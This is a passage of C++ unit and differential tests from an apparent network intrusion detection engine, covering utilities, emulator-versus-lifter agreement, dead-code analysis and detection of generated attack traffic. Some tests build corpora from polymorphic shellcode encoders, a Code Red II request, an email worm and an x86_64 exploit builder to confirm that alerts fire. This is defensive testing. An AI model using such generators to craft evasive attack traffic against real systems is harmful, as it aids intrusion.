  std::string dump = hexdump(b);
  EXPECT_NE(dump.find("00000000"), std::string::npos);
  EXPECT_NE(dump.find("00000010"), std::string::npos);
  EXPECT_NE(dump.find("|ABCDEFGH"), std::string::npos);
  EXPECT_NE(dump.find("41 42 43"), std::string::npos);
}

TEST(Hexdump, NonPrintableAsDots) {
  Bytes b{0x00, 0x41, 0xff};
  std::string dump = hexdump(b);
  EXPECT_NE(dump.find("|.A.|"), std::string::npos);
}

// ------------------------------------------------------------------- prng

TEST(Prng, DeterministicForSeed) {
  Prng a(123), b(123);
  for (int i = 0; i < 100; ++i) EXPECT_EQ(a.next(), b.next());
}

TEST(Prng, DifferentSeedsDiffer) {
  Prng a(1), b(2);
  int same = 0;
  for (int i = 0; i < 64; ++i) {
    if (a.next() == b.next()) ++same;
  }
  EXPECT_LT(same, 2);
}

TEST(Prng, BelowIsInRange) {
  Prng p(7);
  for (std::uint64_t bound : {1ull, 2ull, 3ull, 10ull, 255ull, 1000000ull}) {
    for (int i = 0; i < 200; ++i) EXPECT_LT(p.below(bound), bound);
  }
}

TEST(Prng, BelowCoversAllResidues) {
  Prng p(9);
  std::set<std::uint64_t> seen;
  for (int i = 0; i < 500; ++i) seen.insert(p.below(7));
  EXPECT_EQ(seen.size(), 7u);
}

TEST(Prng, RangeInclusive) {
  Prng p(11);
  std::set<std::int64_t> seen;
  for (int i = 0; i < 500; ++i) {
    std::int64_t v = p.range(-2, 2);
    EXPECT_GE(v, -2);
    EXPECT_LE(v, 2);
    seen.insert(v);
  }
  EXPECT_EQ(seen.size(), 5u);
}

TEST(Prng, ChanceExtremes) {
  Prng p(13);
  for (int i = 0; i < 50; ++i) {
    EXPECT_FALSE(p.chance(0.0));
    EXPECT_TRUE(p.chance(1.0));
  }
}

TEST(Prng, ChanceApproximatesProbability) {
  Prng p(17);
  int hits = 0;
  const int n = 10000;
  for (int i = 0; i < n; ++i) hits += p.chance(0.25);
  EXPECT_NEAR(hits / static_cast<double>(n), 0.25, 0.03);
}

TEST(Prng, ShuffleIsPermutation) {
  Prng p(19);
  std::vector<int> v{1, 2, 3, 4, 5, 6, 7, 8};
  auto sorted = v;
  p.shuffle(v);
  auto copy = v;
  std::sort(copy.begin(), copy.end());
  EXPECT_EQ(copy, sorted);
}

TEST(Prng, BytesLength) {
  Prng p(23);
  EXPECT_EQ(p.bytes(100).size(), 100u);
  EXPECT_TRUE(p.bytes(0).empty());
}

TEST(Prng, PickReturnsElement) {
  Prng p(29);
  std::vector<int> v{10, 20, 30};
  for (int i = 0; i < 50; ++i) {
    int x = p.pick(v);
    EXPECT_TRUE(x == 10 || x == 20 || x == 30);
  }
}

// ------------------------------------------------------------ thread pool

TEST(ThreadPool, RunsAllTasks) {
  ThreadPool pool(4);
  std::atomic<int> count{0};
  for (int i = 0; i < 1000; ++i) {
    pool.submit([&count] { count.fetch_add(1, std::memory_order_relaxed); });
  }
  pool.wait_idle();
  EXPECT_EQ(count.load(), 1000);
}

TEST(ThreadPool, WaitIdleIsReusable) {
  ThreadPool pool(2);
  std::atomic<int> count{0};
  pool.submit([&count] { ++count; });
  pool.wait_idle();
  EXPECT_EQ(count.load(), 1);
  pool.submit([&count] { ++count; });
  pool.wait_idle();
  EXPECT_EQ(count.load(), 2);
}

TEST(ThreadPool, WorkersCanSubmit) {
  ThreadPool pool(2);
  std::atomic<int> count{0};
  pool.submit([&] {
    pool.submit([&count] { ++count; });
  });
  pool.wait_idle();
  EXPECT_EQ(count.load(), 1);
}

TEST(ThreadPool, ZeroThreadsClampsToOne) {
  ThreadPool pool(0);
  EXPECT_EQ(pool.thread_count(), 1u);
}

TEST(ThreadPool, DrainsQueueOnDestruction) {
  std::atomic<int> count{0};
  {
    ThreadPool pool(2);
    for (int i = 0; i < 100; ++i) {
      pool.submit([&count] { ++count; });
    }
  }
  EXPECT_EQ(count.load(), 100);
}

// -------------------------------------------------------------------- log

TEST(Log, SinkReceivesMessagesAtOrAboveLevel) {
  std::vector<std::string> seen;
  Log::set_sink([&seen](LogLevel, const std::string& m) { seen.push_back(m); });
  Log::set_level(LogLevel::kWarn);
  log_debug() << "nope";
  log_warn() << "warn " << 42;
  log_error() << "err";
  Log::set_sink(nullptr);
  Log::set_level(LogLevel::kOff);
  ASSERT_EQ(seen.size(), 2u);
  EXPECT_EQ(seen[0], "warn 42");
  EXPECT_EQ(seen[1], "err");
}

TEST(Log, SinkIsInvokedOutsideTheLoggerMutex) {
  // Regression for a thread-safety-audit finding: the sink used to run
  // with the logger mutex held, so a sink that re-entered the Log API
  // (logging from a log callback, or swapping the sink) self-deadlocked
  // on the non-recursive mutex. With the fix the sink is copied under
  // the lock and invoked outside it, so re-entry just works.
  static std::atomic<int> calls{0};
  calls.store(0);
  Log::set_level(LogLevel::kWarn);
  Log::set_sink([](LogLevel, const std::string&) {
    if (calls.fetch_add(1) == 0) {
      log_error() << "from inside the sink";  // re-enters Log::write
    }
  });
  log_error() << "outer";
  Log::set_sink(nullptr);
  Log::set_level(LogLevel::kOff);
  EXPECT_EQ(calls.load(), 2);
}

}  // namespace
}  // namespace senids::util
