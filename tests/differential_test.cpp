// Differential testing: the symbolic lifter (src/ir) and the concrete
// emulator (src/emu) implement IA-32 semantics independently. For random
// straight-line programs over a modeled instruction subset, every
// register value the lifter proves *constant* must equal the value the
// emulator computes. Divergence means one of the two semantics is wrong.
#include <gtest/gtest.h>

#include "emu/cpu.hpp"
#include "gen/emitter.hpp"
#include "ir/lifter.hpp"
#include "util/prng.hpp"
#include "arch/scan.hpp"

namespace senids {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;
using arch::RegFamily;

/// Generate a random straight-line program from instructions both
/// implementations model exactly. Registers are seeded with constants
/// first so most results fold to constants in the lifter.
Bytes random_program(util::Prng& prng, std::size_t insns) {
  Asm a;
  // Deterministic initial constants for eax, ebx, edx, esi, edi (ecx kept
  // free for shifts; esp/ebp untouched).
  const R32 pool[] = {R32::eax, R32::ebx, R32::edx, R32::esi, R32::edi};
  for (R32 r : pool) {
    a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next()));
  }
  auto pick = [&] { return pool[prng.below(std::size(pool))]; };
  for (std::size_t i = 0; i < insns; ++i) {
    switch (prng.below(12)) {
      case 0: a.alu_r32_r32(0, pick(), pick()); break;          // add
      case 1: a.alu_r32_r32(5, pick(), pick()); break;          // sub
      case 2: a.alu_r32_r32(6, pick(), pick()); break;          // xor
      case 3: a.alu_r32_r32(1, pick(), pick()); break;          // or
      case 4: a.alu_r32_r32(4, pick(), pick()); break;          // and
      case 5:
        a.alu_r32_imm(static_cast<std::uint8_t>(prng.below(2) ? 0 : 6), pick(),
                      static_cast<std::int32_t>(prng.next() & 0x7fffffff));
        break;
      case 6: a.inc_r32(pick()); break;
      case 7: a.dec_r32(pick()); break;
      case 8: a.mov_r32_r32(pick(), pick()); break;
      case 9: a.not_r32(pick()); break;
      case 10: a.xchg_r32_r32(pick(), pick()); break;
      default:
        a.mov_r8_imm8(gen::low8(static_cast<R32>(prng.below(4) == 1 ? 0 : prng.below(4))),
                      static_cast<std::uint8_t>(prng.next()));
        break;
    }
  }
  a.raw8(0xF4);  // hlt
  return a.finish();
}

class LifterVsEmulator : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(LifterVsEmulator, ConstantsAgree) {
  util::Prng prng(GetParam());
  const Bytes code = random_program(prng, 24);

  // Concrete execution.
  emu::VirtualMemory mem(code);
  emu::Cpu cpu(mem, emu::kFrameBase);
  ASSERT_EQ(cpu.run(1000), emu::StopReason::kHalted);

  // Symbolic execution over the same trace.
  auto trace = arch::execution_trace(code, 0);
  auto lifted = ir::lift(trace);

  // Final symbolic value per register = last RegWrite event.
  std::array<ir::ExprPtr, 8> final_value{};
  for (const auto& ev : lifted.events) {
    if (ev.kind == ir::EventKind::kRegWrite) {
      final_value[static_cast<unsigned>(ev.reg)] = ev.value;
    }
  }
  int checked = 0;
  for (unsigned f = 0; f < 8; ++f) {
    std::uint32_t sym;
    if (final_value[f] && ir::is_const(final_value[f], &sym)) {
      EXPECT_EQ(sym, cpu.reg(static_cast<RegFamily>(f)))
          << "register family " << f << " seed " << GetParam();
      ++checked;
    }
  }
  // The program seeds five registers with constants and applies pure
  // constant-to-constant ops, so the lifter must fold essentially all of
  // them; require at least the seeded count minus margin.
  EXPECT_GE(checked, 4) << "lifter folded too little; seed " << GetParam();
}

INSTANTIATE_TEST_SUITE_P(Seeds, LifterVsEmulator,
                         ::testing::Range<std::uint64_t>(0, 64));

/// Stack round-trips: push/pop pairs must agree between the two engines.
class StackDifferential : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(StackDifferential, PushPopAgree) {
  util::Prng prng(GetParam());
  Asm a;
  const R32 pool[] = {R32::eax, R32::ebx, R32::edx, R32::esi, R32::edi};
  std::vector<R32> pushed;
  for (R32 r : pool) a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next()));
  const std::size_t depth = 1 + prng.below(5);
  for (std::size_t i = 0; i < depth; ++i) {
    const R32 r = pool[prng.below(std::size(pool))];
    a.push_r32(r);
    pushed.push_back(r);
  }
  for (std::size_t i = 0; i < depth; ++i) {
    a.pop_r32(pool[prng.below(std::size(pool))]);
  }
  a.raw8(0xF4);
  const Bytes code = a.finish();

  emu::VirtualMemory mem(code);
  emu::Cpu cpu(mem, emu::kFrameBase);
  ASSERT_EQ(cpu.run(1000), emu::StopReason::kHalted);

  auto trace = arch::execution_trace(code, 0);
  auto lifted = ir::lift(trace);
  std::array<ir::ExprPtr, 8> final_value{};
  for (const auto& ev : lifted.events) {
    if (ev.kind == ir::EventKind::kRegWrite) {
      final_value[static_cast<unsigned>(ev.reg)] = ev.value;
    }
  }
  for (unsigned f = 0; f < 8; ++f) {
    if (f == static_cast<unsigned>(RegFamily::kSp)) continue;
    std::uint32_t sym;
    if (final_value[f] && ir::is_const(final_value[f], &sym)) {
      EXPECT_EQ(sym, cpu.reg(static_cast<RegFamily>(f))) << "seed " << GetParam();
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, StackDifferential,
                         ::testing::Range<std::uint64_t>(100, 132));

/// Byte-transform agreement: the matcher's invertibility evaluator models
/// rotates with 8-bit semantics; the emulator executes real rotates. For
/// each rotate/shift decoder body, the decoded byte from the emulator
/// must equal direct evaluation.
class ByteTransformDifferential
    : public ::testing::TestWithParam<std::tuple<int, int>> {};

TEST_P(ByteTransformDifferential, EmulatorMatchesArithmetic) {
  const auto [subop, count] = GetParam();
  for (int input = 0; input < 256; input += 37) {
    Asm a;
    a.mov_r8_imm8(R8::al, static_cast<std::uint8_t>(input));
    a.shift_r8_imm8(static_cast<std::uint8_t>(subop), R8::al,
                    static_cast<std::uint8_t>(count));
    a.raw8(0xF4);
    const Bytes code = a.finish();
    emu::VirtualMemory mem(code);
    emu::Cpu cpu(mem, emu::kFrameBase);
    ASSERT_EQ(cpu.run(100), emu::StopReason::kHalted);

    const unsigned v = static_cast<unsigned>(input);
    const unsigned n = static_cast<unsigned>(count) & 7;
    unsigned want = 0;
    switch (subop) {
      case 0: want = n ? ((v << n) | (v >> (8 - n))) & 0xff : v; break;  // rol
      case 1: want = n ? ((v >> n) | (v << (8 - n))) & 0xff : v; break;  // ror
      case 4: want = (v << (count & 31)) & 0xff; break;                  // shl
      case 5: want = (v & 0xff) >> (count & 31); break;                  // shr
    }
    EXPECT_EQ(cpu.reg(RegFamily::kAx) & 0xff, want)
        << "subop " << subop << " count " << count << " input " << input;
  }
}

INSTANTIATE_TEST_SUITE_P(Ops, ByteTransformDifferential,
                         ::testing::Combine(::testing::Values(0, 1, 4, 5),
                                            ::testing::Values(1, 3, 5, 7)));

}  // namespace
}  // namespace senids

namespace senids {
namespace {

/// Memory differential: programs that write constants to in-frame
/// scratch addresses and read them back — the lifter's forwarded value
/// and the emulator's byte must agree.
class MemoryDifferential : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MemoryDifferential, StoreLoadRoundTripsAgree) {
  util::Prng prng(GetParam());
  gen::Asm a;
  // Scratch area inside the frame, well past the code.
  const std::uint32_t scratch = 0x100;
  a.mov_r32_imm32(gen::R32::esi, emu::kFrameBase + scratch);
  const std::uint32_t v1 = static_cast<std::uint32_t>(prng.next());
  const std::uint8_t v2 = static_cast<std::uint8_t>(prng.next());
  a.mov_mem_imm32(gen::R32::esi, 0, v1);
  a.mov_mem_imm8(gen::R32::esi, 8, v2);
  a.mov_r32_mem(gen::R32::eax, gen::R32::esi, 0);  // eax = v1
  a.mov_r8_mem(gen::R8::bl, gen::R32::esi, 8);     // bl = v2
  a.alu_r32_r32(0, gen::R32::eax, gen::R32::ebx);  // mix them
  a.raw8(0xF4);
  util::Bytes code = a.finish();
  code.resize(0x200, 0);

  emu::VirtualMemory mem(code);
  emu::Cpu cpu(mem, emu::kFrameBase);
  ASSERT_EQ(cpu.run(1000), emu::StopReason::kHalted);

  // The lifter cannot know ebx's initial upper bits, but the final eax is
  // init-ebx dependent... so compare the *stored memory bytes* instead:
  // both engines must agree on what landed in the frame.
  auto trace = arch::execution_trace(code, 0);
  auto lifted = ir::lift(trace);
  std::uint32_t lifter_v1 = 0;
  bool found = false;
  for (const auto& ev : lifted.events) {
    if (ev.kind == ir::EventKind::kMemWrite && ev.width == 32 &&
        ir::is_const(ev.value, &lifter_v1)) {
      found = true;
      break;
    }
  }
  ASSERT_TRUE(found);
  EXPECT_EQ(lifter_v1, v1);
  EXPECT_EQ(mem.read32(emu::kFrameBase + scratch).value(), v1);
  EXPECT_EQ(mem.read8(emu::kFrameBase + scratch + 8).value(), v2);
}

INSTANTIATE_TEST_SUITE_P(Seeds, MemoryDifferential,
                         ::testing::Range<std::uint64_t>(200, 216));

}  // namespace
}  // namespace senids
