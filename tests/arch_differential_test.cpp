// Differential harness for the architecture abstraction layer. Two
// contracts from the migration:
//
//   1. Routing the classic pipeline through arch::Arch changed nothing:
//      an engine with default options (arch = nullptr) and an engine
//      with an explicit &Arch::x86_32() must produce byte-identical
//      reports over every generator corpus, across the full deployment
//      matrix — threads {1,4} x shards {1,4} x verdict-cache {off,on}.
//
//   2. The x86_64 registration is end-to-end real: with the production
//      configuration (triage on, cache on), EVERY ExploitBuilder64
//      payload raises at least one alert — asserted per payload, not in
//      aggregate — and 64-bit benign traffic raises none.
#include <gtest/gtest.h>

#include <vector>

#include "arch/arch.hpp"
#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/shellcode64.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

Endpoint attacker(std::size_t i) {
  return Endpoint{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                  static_cast<std::uint16_t>(30000 + i)};
}

struct MatrixPoint {
  std::size_t threads;
  std::size_t shards;
  bool cache;
};

constexpr MatrixPoint kMatrix[] = {
    {1, 1, false}, {1, 1, true}, {1, 4, false}, {1, 4, true},
    {4, 1, false}, {4, 1, true}, {4, 4, false}, {4, 4, true},
};

NidsEngine make_engine(const arch::Arch* arch, const MatrixPoint& p) {
  NidsOptions options;
  options.arch = arch;
  options.classifier.analyze_everything = true;
  options.threads = p.threads;
  options.shards = p.shards;
  options.verdict_cache_bytes = p.cache ? (8u << 20) : 0;
  return NidsEngine(options);
}

void expect_reports_identical(const Report& a, const Report& b, const MatrixPoint& p) {
  ASSERT_EQ(a.alerts.size(), b.alerts.size())
      << "threads=" << p.threads << " shards=" << p.shards << " cache=" << p.cache;
  for (std::size_t i = 0; i < a.alerts.size(); ++i) {
    EXPECT_EQ(a.alerts[i].ts_sec, b.alerts[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a.alerts[i].src.value, b.alerts[i].src.value) << "alert " << i;
    EXPECT_EQ(a.alerts[i].dst.value, b.alerts[i].dst.value) << "alert " << i;
    EXPECT_EQ(a.alerts[i].src_port, b.alerts[i].src_port) << "alert " << i;
    EXPECT_EQ(a.alerts[i].dst_port, b.alerts[i].dst_port) << "alert " << i;
    EXPECT_EQ(a.alerts[i].threat, b.alerts[i].threat) << "alert " << i;
    EXPECT_EQ(a.alerts[i].template_name, b.alerts[i].template_name) << "alert " << i;
    EXPECT_EQ(a.alerts[i].frame_reason, b.alerts[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a.alerts[i].frame_offset, b.alerts[i].frame_offset) << "alert " << i;
  }
  EXPECT_EQ(a.stats.units_analyzed, b.stats.units_analyzed);
  EXPECT_EQ(a.stats.suspicious_packets, b.stats.suspicious_packets);
}

/// Contract 1 harness: default options and explicit x86_32 must be one
/// and the same engine over `capture`, at every matrix point.
void expect_default_is_x86_32(const pcap::Capture& capture) {
  for (const MatrixPoint& p : kMatrix) {
    NidsEngine implicit = make_engine(nullptr, p);
    NidsEngine explicit_32 = make_engine(&arch::Arch::x86_32(), p);
    const Report r_implicit = implicit.process_capture(capture);
    const Report r_explicit = explicit_32.process_capture(capture);
    expect_reports_identical(r_implicit, r_explicit, p);
  }
}

// ------------------------------------------------------------- corpora

pcap::Capture classic_attack_corpus(std::uint64_t seed) {
  // One of everything the 32-bit generators produce: polymorphic
  // shell-spawns (both encoders), Code Red II, an email worm, and
  // benign noise in between.
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  const util::Bytes request = gen::make_code_red_ii_request();
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 4; ++i) {
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, adm.bytes);
    const auto clet = gen::clet_encode(corpus[(i + 2) % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 10), Endpoint{kServer, 80}, clet.bytes);
    tb.add_tcp_flow(attacker(i + 20), Endpoint{kServer, 80}, request);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  const auto worm = gen::make_email_worm(tb.prng());
  tb.add_tcp_flow(attacker(30), mx, worm.smtp_payload);
  return tb.take();
}

pcap::Capture benign_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (int i = 0; i < 16; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 6; ++i) {
    tb.add_benign(kClient, kServer, gen::make_suspicious_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 4; ++i) {
    tb.add_tcp_flow(kClient, mx, gen::make_benign_email(tb.prng()));
  }
  return tb.take();
}

// ---------------------------------------- contract 1: default == x86_32

TEST(ArchDifferential, DefaultEqualsExplicitX86_32OnAttacks) {
  expect_default_is_x86_32(classic_attack_corpus(301));
}

TEST(ArchDifferential, DefaultEqualsExplicitX86_32OnBenign) {
  expect_default_is_x86_32(benign_corpus(302));
}

TEST(ArchDifferential, DefaultNormalizesToX86_32) {
  // The normalization is observable: identical config fingerprints, so
  // the two spellings even share verdict-cache entries.
  const MatrixPoint p{1, 1, true};
  NidsEngine implicit = make_engine(nullptr, p);
  NidsEngine explicit_32 = make_engine(&arch::Arch::x86_32(), p);
  EXPECT_EQ(implicit.config_fingerprint(), explicit_32.config_fingerprint());
  EXPECT_EQ(implicit.options().arch, &arch::Arch::x86_32());
}

// ----------------------------------- contract 2: x86_64 is end-to-end

TEST(ArchDifferential, EveryX64PayloadAlertsUnderProductionConfig) {
  // Production shape: triage on, verdict cache on, x86_64.
  // Each corpus payload rides its own flow from a distinct source port,
  // so "payload i alerted" is decidable from the alert list alone.
  const auto corpus = gen::ExploitBuilder64::corpus();
  ASSERT_FALSE(corpus.empty());
  gen::TraceBuilder tb(303);
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80},
                    gen::ExploitBuilder64::wrap(corpus[i].code, tb.prng()));
  }
  const pcap::Capture capture = tb.take();

  NidsOptions options;
  options.arch = &arch::Arch::x86_64();
  options.classifier.analyze_everything = true;
  options.verdict_cache_bytes = 8u << 20;
  options.triage.mode = triage::TriageMode::kOn;
  NidsEngine engine(options);
  const Report report = engine.process_capture(capture);

  for (std::size_t i = 0; i < corpus.size(); ++i) {
    const std::uint16_t port = attacker(i).port;
    bool alerted = false;
    for (const Alert& alert : report.alerts) {
      if (alert.src_port == port) {
        alerted = true;
        break;
      }
    }
    EXPECT_TRUE(alerted) << "payload \"" << corpus[i].name
                         << "\" (src port " << port << ") raised no alert";
  }
  // Triage screened every unit and the attacks got through it.
  EXPECT_EQ(report.stats.triage_screened, report.stats.units_analyzed);
  EXPECT_GE(report.stats.triage_escalated, corpus.size());
}

TEST(ArchDifferential, X64EngineQuietOnBenignTraffic) {
  // FP control: the long-mode decoder must not hallucinate attacks out
  // of the benign corpus (including the sled-lookalike payloads).
  NidsOptions options;
  options.arch = &arch::Arch::x86_64();
  options.classifier.analyze_everything = true;
  options.verdict_cache_bytes = 8u << 20;
  NidsEngine engine(options);
  const Report report = engine.process_capture(benign_corpus(304));
  EXPECT_TRUE(report.alerts.empty());
}

}  // namespace
}  // namespace senids::core
