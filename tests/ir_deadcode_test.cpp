#include <gtest/gtest.h>

#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "ir/deadcode.hpp"
#include "arch/scan.hpp"

namespace senids::ir {
namespace {

using gen::Asm;
using gen::R32;
using util::Bytes;

DeadCodeResult analyze(const Bytes& code, arch::RegSet exit_live = {}) {
  auto trace = arch::execution_trace(code, 0);
  return find_dead_code(trace, exit_live);
}

TEST(DeadCode, OverwrittenDefIsDead) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 1);   // dead: overwritten below, never read
  a.mov_r32_imm32(R32::eax, 2);
  a.push_r32(R32::eax);           // observes eax
  Bytes code = a.finish();
  auto r = analyze(code);
  ASSERT_EQ(r.dead.size(), 3u);
  EXPECT_TRUE(r.dead[0]);
  EXPECT_FALSE(r.dead[1]);
  EXPECT_FALSE(r.dead[2]);
}

TEST(DeadCode, UsedDefIsLive) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 1);
  a.alu_r32_r32(0, R32::ebx, R32::eax);  // add ebx, eax: reads eax
  a.push_r32(R32::ebx);
  auto r = analyze(a.finish());
  EXPECT_FALSE(r.dead[0]);
}

TEST(DeadCode, CmpWithoutBranchIsDead) {
  Asm a;
  a.cmp_r32_imm8(R32::eax, 5);  // flags never consumed
  a.push_r32(R32::eax);
  auto r = analyze(a.finish());
  EXPECT_TRUE(r.dead[0]);
}

TEST(DeadCode, CmpFeedingBranchIsLive) {
  Asm a;
  auto skip = a.new_label();
  a.cmp_r32_imm8(R32::eax, 5);
  a.jcc(0x5, skip);  // jne consumes the flags
  a.nop();
  a.bind(skip);
  a.ret();
  auto r = analyze(a.finish());
  EXPECT_FALSE(r.dead[0]);
}

TEST(DeadCode, StoresAndSyscallsNeverDead) {
  Asm a;
  a.mov_mem_imm8(R32::eax, 0, 0x41);  // memory write: observable
  a.int_imm(0x80);                    // side effect
  auto r = analyze(a.finish());
  EXPECT_FALSE(r.dead[0]);
  EXPECT_FALSE(r.dead[1]);
}

TEST(DeadCode, ExitLivenessKeepsFinalDefs) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 7);  // live only if the caller says eax matters
  Bytes code = a.finish();
  EXPECT_TRUE(analyze(code).dead[0]);
  EXPECT_FALSE(analyze(code, arch::RegSet::all()).dead[0]);
}

TEST(DeadCode, FlagsKilledByLaterDef) {
  Asm a;
  auto lbl = a.new_label();
  a.cmp_r32_imm8(R32::eax, 1);    // dead: flags re-defined before the jcc
  a.cmp_r32_imm8(R32::ebx, 2);    // live: feeds the branch
  a.jcc(0x4, lbl);                // je
  a.bind(lbl);
  a.ret();
  auto r = analyze(a.finish());
  EXPECT_TRUE(r.dead[0]);
  EXPECT_FALSE(r.dead[1]);
}

TEST(DeadCode, FindsInjectedJunkInPolymorphicDecoder) {
  // The engine's junk operates on registers the decoder never reads: a
  // substantial fraction must be flagged dead while the decoder core
  // (store, advance, counter, branch) stays live.
  util::Prng prng(17);
  gen::PolyOptions opts;
  opts.junk_prob = 0.9;
  auto poly = gen::admmutate_encode(util::to_bytes("PAYLOADBYTES"), prng, opts);
  auto trace = arch::execution_trace(poly.bytes, 0);
  auto r = find_dead_code(trace);
  EXPECT_GT(r.dead_count, 0u);
  // The decoder's own instructions must not be flagged: the memory store
  // is observable by definition; check it explicitly.
  for (std::size_t i = 0; i < trace.size(); ++i) {
    const auto du = arch::def_use(trace[i]);
    if (du.mem_write || du.side_effect) EXPECT_FALSE(r.dead[i]) << i;
  }
}

TEST(DeadCode, BswapDoesNotKillFlagProducer) {
  // Regression: bswap carried a phantom flags_def, so a comparison
  // followed by bswap + conditional branch looked dead and could be
  // deleted out from under the branch.
  static const std::uint8_t kCode[] = {
      0x39, 0xD8,        // cmp eax, ebx   (flag producer)
      0x0F, 0xC9,        // bswap ecx      (must NOT clobber flags)
      0x75, 0xFA,        // jne -6         (flag consumer)
  };
  auto trace = arch::linear_sweep(kCode, 0);
  ASSERT_EQ(trace.size(), 3u);
  const auto du = arch::def_use(trace[1]);
  EXPECT_FALSE(du.flags_def);
  auto r = find_dead_code(trace);
  EXPECT_FALSE(r.dead[0]);
}

TEST(DeadCode, IntoReadsFlags) {
  // Regression: into traps on OF, so it must count as a flag consumer —
  // otherwise the arithmetic that sets OF looks dead.
  static const std::uint8_t kCode[] = {
      0x01, 0xD8,  // add eax, ebx (sets OF)
      0xCE,        // into
  };
  auto trace = arch::linear_sweep(kCode, 0);
  ASSERT_EQ(trace.size(), 2u);
  const auto du = arch::def_use(trace[1]);
  EXPECT_TRUE(du.flags_use);
  EXPECT_TRUE(du.side_effect);
}

TEST(DeadCode, RepStringReadsAndWritesCounter) {
  // Regression: rep movsd consumes ecx, so the `mov ecx, N` feeding it
  // must stay live.
  static const std::uint8_t kCode[] = {
      0xB9, 0x10, 0x00, 0x00, 0x00,  // mov ecx, 16
      0xF3, 0xA5,                    // rep movsd
  };
  auto trace = arch::linear_sweep(kCode, 0);
  ASSERT_EQ(trace.size(), 2u);
  auto r = find_dead_code(trace);
  EXPECT_FALSE(r.dead[0]);
}

TEST(DeadCode, EmptyTrace) {
  auto r = find_dead_code({});
  EXPECT_EQ(r.dead_count, 0u);
  EXPECT_TRUE(r.dead.empty());
}

}  // namespace
}  // namespace senids::ir
