// Unit flight recorder tests: ring wraparound semantics, slow-unit
// promotion and retention (the "which unit took 40 ms" answer must
// survive ten thousand benign units), the rolling threshold seeded from
// the unit-latency histogram, and torn-read safety under concurrent
// writers (TSan tier-1).
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <set>
#include <thread>
#include <vector>

#include "obs/flight_recorder.hpp"
#include "obs/metrics.hpp"
#include "obs/pipeline.hpp"

namespace senids::obs {
namespace {

UnitRecord benign_unit(std::uint64_t id, std::uint32_t total_us = 10) {
  UnitRecord r;
  r.unit_id = id;
  r.src = 0xc0a80000u | static_cast<std::uint32_t>(id & 0xff);
  r.payload_bytes = 512;
  r.frames = 1;
  r.extract_us = total_us / 2;
  r.total_us = total_us;
  r.cache = CacheDisposition::kMiss;
  return r;
}

class FlightRecorderTest : public ::testing::Test {
 protected:
  void SetUp() override {
    set_metrics_enabled(true);
    // A huge multiplier pins the rolling threshold to the floor no matter
    // what earlier tests left in the process-global unit histogram.
    FlightRecorder::instance().configure(
        {.slots = 8, .slow_slots = 16, .slow_floor_seconds = 1.0, .slow_multiplier = 1e9});
  }
  void TearDown() override { FlightRecorder::instance().configure({.slots = 0}); }
};

TEST_F(FlightRecorderTest, DisabledWhenSlotsZero) {
  FlightRecorder::instance().configure({.slots = 0});
  EXPECT_FALSE(FlightRecorder::enabled());
  FlightRecorder::instance().record(benign_unit(1));
  EXPECT_TRUE(FlightRecorder::instance().recent().empty());
}

TEST_F(FlightRecorderTest, RecordsAreReadBack) {
  FlightRecorder& fr = FlightRecorder::instance();
  ASSERT_TRUE(FlightRecorder::enabled());
  UnitRecord in = benign_unit(42, 120);
  in.alerts = 3;
  in.disasm_us = 7;
  in.lift_us = 8;
  in.match_us = 9;
  in.emulate_us = 10;
  in.cache = CacheDisposition::kBypass;
  fr.record(in);
  const std::vector<UnitRecord> out = fr.recent();
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].unit_id, 42u);
  EXPECT_EQ(out[0].src, in.src);
  EXPECT_EQ(out[0].payload_bytes, 512u);
  EXPECT_EQ(out[0].frames, 1u);
  EXPECT_EQ(out[0].alerts, 3u);
  EXPECT_EQ(out[0].disasm_us, 7u);
  EXPECT_EQ(out[0].lift_us, 8u);
  EXPECT_EQ(out[0].match_us, 9u);
  EXPECT_EQ(out[0].emulate_us, 10u);
  EXPECT_EQ(out[0].total_us, 120u);
  EXPECT_EQ(out[0].cache, CacheDisposition::kBypass);
  // ts and worker are stamped by the recorder, not the caller.
  EXPECT_EQ(cache_disposition_name(out[0].cache), "bypass");
}

TEST_F(FlightRecorderTest, RingWrapsKeepingNewestOldestFirst) {
  FlightRecorder& fr = FlightRecorder::instance();
  for (std::uint64_t id = 1; id <= 20; ++id) fr.record(benign_unit(id));
  const std::vector<UnitRecord> out = fr.recent();
  ASSERT_EQ(out.size(), 8u);  // ring capacity, not record count
